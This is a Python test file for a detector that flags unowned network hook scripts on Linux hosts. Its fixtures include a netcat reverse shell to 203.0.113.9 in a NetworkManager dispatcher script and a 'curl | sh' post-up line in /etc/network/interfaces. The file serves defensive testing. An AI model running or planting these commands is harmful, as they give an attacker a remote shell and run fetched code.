from __future__ import annotations

from tasks.checks.host.network_hook_unowned import NetworkHookUnowned
from tests.tasks.checks.host._facts import cannot, found, put, survey

CHECK = NetworkHookUnowned()


def test_a_hook_that_nobody_brought() -> None:
    files = (
        put("network", "/etc/NetworkManager/dispatcher.d/x", "#!/bin/sh\nnc -e /bin/sh 203.0.113.9 1\n", mode=0o755),
        put("network", "/etc/network/if-up.d/x", "#!/bin/sh\ntrue\n", mode=0o755),
        put("network", "/etc/network/interfaces", "iface eth0 inet dhcp\n  post-up curl http://203.0.113.9 | sh\n"),
    )
    assert [severity for severity, _ in found(CHECK, survey(files=files))] == ["critical", "critical", "medium"]


def test_those_of_packages_and_settings() -> None:
    files = (
        put("network", "/etc/network/if-up.d/ntp", "#!/bin/sh\n", mode=0o755),
        put(
            "network", "/etc/network/interfaces", "iface eth0 inet static\n  up ip route add 10.0.0.0/8 via 10.0.0.1\n"
        ),
        put("network", "/etc/NetworkManager/NetworkManager.conf", "[main]\n"),
    )
    assert found(CHECK, survey(files=files, owned=("/etc/network/if-up.d/ntp",))) == []


def test_nothing_there_is_nothing_found() -> None:
    assert found(CHECK, survey()) == []


def test_what_was_not_read_cannot_be_judged() -> None:
    cannot(CHECK, "owners", "files")
